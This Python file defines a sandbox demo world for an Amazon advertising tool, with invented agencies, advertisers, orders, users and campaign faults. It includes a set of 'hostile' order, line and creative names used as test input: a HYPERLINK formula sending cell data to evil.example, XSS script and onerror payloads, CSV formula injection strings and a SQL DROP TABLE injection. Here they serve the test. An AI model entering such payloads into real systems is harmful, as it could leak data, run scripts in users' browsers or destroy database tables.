"""The demo world: two agencies, eleven advertisers, three regions, five currencies.

Every name is invented; the hostile ones are as they could be typed into Amazon's console.
"""

from __future__ import annotations

from sandbox.world.blueprint import (
    AdvertiserPlan,
    ManagerPlan,
    OrderPlan,
    Rollover,
    Scenario,
    SeatPlan,
    SponsoredPlan,
    Trouble,
    UserPlan,
)
from sandbox.world.entities import Traits
from sandbox.world.rates import Stage
from sandbox.world.usual import awareness_order, upcoming_order, usual_orders

_US, _UK, _DE, _CA, _JP = (
    "ATVPDKIKX0DER", "A1F83G8C2ARO7P", "A1PA6795UKMFR9", "A2EUQ1WTGCTBG2", "A1VC38T7YXB528",
)  # fmt: skip
_WEST, _LONDON, _BERLIN = "America/Los_Angeles", "Europe/London", "Europe/Berlin"

SEATS = (
    SeatPlan("cobalt-us", "Cobalt Harbor: US", "NA", "US", "USD", _WEST, _US),
    SeatPlan("cobalt-ca", "Cobalt Harbor: CA", "NA", "CA", "CAD", "America/Toronto", _CA),
    SeatPlan("cobalt-uk", "Cobalt Harbor: UK", "EU", "UK", "GBP", _LONDON, _UK),
    SeatPlan("cobalt-de", "Cobalt Harbor: DE", "EU", "DE", "EUR", "Europe/Paris", _DE),
    SeatPlan("cobalt-jp", "Cobalt Harbor: JP", "FE", "JP", "JPY", "Asia/Tokyo", _JP),
    SeatPlan("saffron-us", "Saffron Row: US", "NA", "US", "USD", _WEST, _US),
    SeatPlan("saffron-de", "Saffron Row: DE", "EU", "DE", "EUR", "Europe/Paris", _DE),
    SeatPlan("managed-us", "Managed service: US", "NA", "US", "USD", _WEST, _US),
)

_ROCKET, _TEA = "\U0001f680", "\U0001f375"
HOSTILE_LINE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<script>alert(1)</script>",
    "+1 | -1+1 | @SUM(A1:A9)",
    "<img src=x onerror=alert(1)>",
    f'{_ROCKET} "Quoted", comma; $x^2$ :red[x]',
    "[x](javascript:alert(1))\nsecond line",
)
HOSTILE_CREATIVE_NAMES = (
    "-1+1",
    "@SUM(A1:A9)",
    "\tled by a tab",
    "\rled by a return",
    "100 %% of %s </script>",
    "Robert'); DROP TABLE creatives;--",
)


def scenario(*, scale: int = 1) -> Scenario:
    """Return the demo world; `scale` multiplies its ordinary orders."""
    return Scenario(SEATS, tuple(_advertisers(scale)), _SPONSORED, _users())


def _advertisers(scale: int) -> list[AdvertiserPlan]:
    return [*_american(scale), *_european(scale), *_elsewhere(scale), *_saffron(scale)]


def _american(scale: int) -> list[AdvertiserPlan]:
    return [
        AdvertiserPlan(
            "lumen-pet", "Lumen Pet", "cobalt-us", _WEST, "LUMEN",
            ("Glow Collar", "Trail Leash", "Calm Chews", "Night Bowl"), "Pet Products",
            Traits(32.0, 1.0, subscribes=True, large_restatement=True),
            (*usual_orders("lumen-pet", 1_800, copies=scale), awareness_order("lumen-pet", 900),
             _too_low(500), _raised(420), _event("Black-Friday", "cyber", 900),
             _event("Prime-Day", "prime", 1_100)),
        ),
        AdvertiserPlan(
            "harbor-pine", "Harbor & Pine Coffee", "cobalt-us", "America/New_York", "HARBORPINE",
            ("Dark Roast", "Cold Brew Kit", "Filter Papers", "Travel Press"), "Grocery",
            Traits(24.0, 1.0, subscribes=True),
            (*usual_orders("harbor-pine", 1_300, copies=scale), _rejected(380), _dead(260),
             upcoming_order("harbor-pine", 500), _event("Prime-Day", "prime", 700)),
        ),
        AdvertiserPlan(
            "northwind", "Northwind Kitchen", "cobalt-us", "America/Chicago", "NORTHWIND",
            ("Cast Pan", "Knife Roll", "Steam Oven", "Salt Mill"), "Kitchen",
            Traits(78.0, 1.15, tracks_off_amazon=True),
            (*usual_orders("northwind", 2_600, copies=scale), awareness_order("northwind", 1_500),
             _stopped(640), _hostile(300)),
        ),
        AdvertiserPlan(
            "trailhead", "Trailhead Streaming", "cobalt-us", _WEST, "TRAILHEAD",
            ("Ridge Season 2", "Basecamp Film", "Summit Plus", "Switchback"), "Prime Video",
            Traits(9.0, 1.0, streams=True, has_app=True, measures_demographics=True),
            (*usual_orders("trailhead", 2_200, copies=scale), awareness_order("trailhead", 3_000)),
        ),
    ]  # fmt: skip


def _european(scale: int) -> list[AdvertiserPlan]:
    return [
        AdvertiserPlan(
            "thistle-rye", "Thistle & Rye Outdoors", "cobalt-uk", _LONDON, "THISTLE",
            ("Moor Jacket", "Peat Boots", "Loch Flask", "Cairn Pack"), "Outdoors",
            Traits(46.0, 1.0),
            (*usual_orders("thistle-rye", 900, copies=scale), _flights_sharing_a_day(300),
             _out_of_budget(220)),
        ),
        AdvertiserPlan(
            "kupferkessel", "Kupferkessel Küchen", "cobalt-de", _BERLIN, "KUPFER",
            ("Kessel 5 l", "Bräter", "Messerblock", "Mühle"), "Küche", Traits(54.0, 1.0),
            (*usual_orders("kupferkessel", 1_000, copies=scale),
             awareness_order("kupferkessel", 700), upcoming_order("kupferkessel", 300)),
            language="de",
        ),
        AdvertiserPlan(
            "stillwasser", "Stillwasser Garten", "cobalt-de", _BERLIN, "STILL",
            ("Teichpumpe", "Seerose", "Kescher"), "Garten", Traits(38.0, 1.0),
            (_paused(400),), language="de",
        ),
    ]  # fmt: skip


def _elsewhere(scale: int) -> list[AdvertiserPlan]:
    return [
        AdvertiserPlan(
            "maple-wool", "Maple & Wool", "cobalt-ca", "America/Toronto", "MAPLE",
            ("Toque", "Blanket", "Moccasins"), "Apparel", Traits(52.0, 1.0),
            usual_orders("maple-wool", 700, copies=scale),
        ),
        AdvertiserPlan(
            "tsukishiro", f"月白ティー {_TEA}", "cobalt-jp", "Asia/Tokyo", "TSUKI",
            ("煎茶", "抹茶セット", "ほうじ茶", "急須"), "食品",
            Traits(3_200.0, 1.0, subscribes=True),
            (*usual_orders("tsukishiro", 120_000, copies=scale),
             awareness_order("tsukishiro", 60_000)), language="ja",
        ),
        AdvertiserPlan(
            "aurora-cycles", "Aurora Cycles (managed)", "managed-us", "America/Denver", "AURORA",
            ("Gravel Bike", "Helmet", "Pump"), "Sports", Traits(120.0, 1.1, tracks_off_amazon=True),
            usual_orders("aurora-cycles", 1_500, copies=scale),
        ),
    ]  # fmt: skip


def _saffron(scale: int) -> list[AdvertiserPlan]:
    return [
        AdvertiserPlan(
            "fennel-fig", "Fennel & Fig", "saffron-us", "America/New_York", "FENNEL",
            ("Spice Rack", "Chai Box", "Mortar"), "Grocery", Traits(28.0, 1.0, subscribes=True),
            usual_orders("fennel-fig", 800, copies=scale),
        ),
        AdvertiserPlan(
            "nordlicht", "Nordlicht Lampen", "saffron-de", _BERLIN, "NORDLICHT",
            ("Stehlampe", "Leuchte", "Dimmer"), "Beleuchtung", Traits(64.0, 1.0),
            usual_orders("nordlicht", 600, copies=scale), language="de",
        ),
    ]  # fmt: skip


def _too_low(per_day: float) -> OrderPlan:
    return OrderPlan("Competitor", Stage.CONSIDERATION, ("oo-inmarket", "web-prospecting"),
                     -20, 12, per_day, flight_days=32, trouble=Trouble.BID_TOO_LOW)  # fmt: skip


def _raised(per_day: float) -> OrderPlan:
    return OrderPlan("Subscribe", Stage.CONVERSION, ("oo-remarketing", "web-remarketing"),
                     -20, 10, per_day, trouble=Trouble.BUDGET_RAISED)  # fmt: skip


def _rejected(per_day: float) -> OrderPlan:
    return OrderPlan("Seasonal", Stage.CONSIDERATION, ("oo-inmarket", "web-prospecting"),
                     -16, 18, per_day, flight_days=34,
                     trouble=Trouble.CREATIVE_REJECTED)  # fmt: skip


def _dead(per_day: float) -> OrderPlan:
    return OrderPlan("Bundles", Stage.CONVERSION, ("oo-remarketing", "web-remarketing"),
                     -12, 20, per_day, flight_days=32, trouble=Trouble.DEAD_LINE_ITEM)  # fmt: skip


def _stopped(per_day: float) -> OrderPlan:
    return OrderPlan("Loyalty", Stage.CONVERSION, ("oo-remarketing", "oo-inmarket"),
                     -25, 9, per_day, flight_days=34, agency_fee=12.5,
                     trouble=Trouble.STOPPED)  # fmt: skip


def _out_of_budget(per_day: float) -> OrderPlan:
    return OrderPlan("Clearance", Stage.CONVERSION, ("oo-remarketing",), -22, 6, per_day,
                     flight_days=28, trouble=Trouble.OUT_OF_BUDGET)  # fmt: skip


def _paused(per_day: float) -> OrderPlan:
    return OrderPlan("Remarketing", Stage.CONVERSION, ("oo-remarketing", "web-remarketing"),
                     -300, 90, per_day, trouble=Trouble.PAUSED)  # fmt: skip


def _hostile(per_day: float) -> OrderPlan:
    return OrderPlan(
        "Names", Stage.CONSIDERATION, ("oo-inmarket", "web-prospecting", "web-remarketing",
                                       "oo-remarketing", "online-video", "oo-inmarket"),
        -45, 30, per_day, third_party_fees=True, rollover=Rollover.PRIOR,
        name='=HYPERLINK("http://evil.example","Q4, \'best\' order")',
        line_names=HOSTILE_LINE_NAMES, creative_names=HOSTILE_CREATIVE_NAMES,
    )  # fmt: skip


def _flights_sharing_a_day(per_day: float) -> OrderPlan:
    return OrderPlan("Autumn", Stage.CONSIDERATION, ("oo-inmarket", "online-video"), -27, 15,
                     per_day, flight_days=14, first_hour=9, flights_share_a_day=True,
                     rollover=Rollover.CUMULATIVE)  # fmt: skip


def _event(label: str, event: str, per_day: float) -> OrderPlan:
    return OrderPlan(label, Stage.CONVERSION, ("oo-remarketing", "oo-inmarket"), 0, 0, per_day,
                     agency_fee=8.0, event=event)  # fmt: skip


_SPONSORED = (
    SponsoredPlan("lumen-vendor", "Lumen Pet", "vendor", "NA", "US", "USD", _WEST, _US, 600),
    SponsoredPlan(
        "pebble-seller", "Pebble Stationery", "seller", "NA", "US", "USD", _WEST, _US, 90
    ),
    SponsoredPlan(
        "pebble-attribution",
        "Pebble: Attribution",
        "agency",
        "NA",
        "US",
        "USD",
        _WEST,
        _US,
        0,
        sub_type="AMAZON_ATTRIBUTION",
    ),
    SponsoredPlan("pebble-uk", "Pebble Stationery", "seller", "EU", "UK", "GBP", _LONDON, _UK, 40),
)


def _users() -> tuple[UserPlan, ...]:
    seats = ("cobalt-us", "cobalt-ca", "cobalt-uk", "cobalt-de", "cobalt-jp")
    return (
        UserPlan(
            "agency", "Robin Vale", "robin.vale@cobalt-harbor.example",
            "an agency: seats in three regions, and manager accounts", seats,
            (ManagerPlan("Cobalt Harbor NA", "NA", ("lumen-pet", "harbor-pine", "aurora-cycles"),
                         accounts=("lumen-vendor",)),
             ManagerPlan("Cobalt Harbor EU", "EU", ("thistle-rye", "kupferkessel"))),
            ("lumen-vendor",),
        ),
        UserPlan(
            "reader", "Kim Ashgrove", "kim.ashgrove@northwind.example",
            "reads three advertisers through a manager account; campaign queries are refused", (),
            (ManagerPlan("Northwind group", "NA", ("northwind", "aurora-cycles")),
             ManagerPlan("Northwind group EU", "EU", ("thistle-rye",))),
        ),
        UserPlan(
            "seller", "Sam Pebble", "sam@pebble.example",
            "a seller: sponsored ads and Amazon Attribution, no DSP",
            sponsored=("pebble-seller", "pebble-attribution", "pebble-uk"),
        ),
        UserPlan(
            "second-agency", "Ines Saffron", "ines@saffron-row.example",
            "another agency, with other advertisers", ("saffron-us", "saffron-de"),
            (ManagerPlan("Saffron Row", "NA", ("fennel-fig", "northwind")),),
        ),
        UserPlan(
            "leaving", "Toni Brackwater", "toni@brackwater.example",
            "withdraws the grant two hours after giving it", ("saffron-us",), grant_hours=2.0,
        ),
    )  # fmt: skip
